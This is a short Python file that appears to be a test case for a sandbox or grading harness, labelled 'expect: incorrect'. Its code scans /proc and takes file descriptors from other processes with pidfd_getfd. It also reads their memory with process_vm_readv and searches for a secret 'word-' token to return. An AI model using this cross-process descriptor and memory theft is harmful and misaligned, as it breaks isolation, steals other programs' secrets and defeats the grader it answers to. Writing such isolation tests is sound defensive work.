# expect: incorrect
# assignment: word
# how: Takes descriptors out of other processes with pidfd_getfd, and their memory with
#   process_vm_readv.
# needs: processes
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def pieces(pid):
    pidfd = libc.syscall(PIDFD_OPEN, pid, 0)
    for fd in range(12):
        stolen = libc.syscall(PIDFD_GETFD, pidfd, fd, 0) if pidfd >= 0 else -1
        if stolen >= 0:
            os.set_blocking(stolen, False)
            yield os.read(stolen, 1 << 20)
    buffer = ctypes.create_string_buffer(1 << 20)
    here = Vector(ctypes.addressof(buffer), 1 << 20)
    there = Vector(id(pieces) & ~0xFFFFF, 1 << 20)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        yield buffer.raw


def word():
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            for piece in pieces(int(pid)):
                found = re.search(rb"word-[0-9a-f]{32}", piece)
                if found:
                    return found[0].decode()
                return "some of its memory"
        except OSError:
            continue
    return None
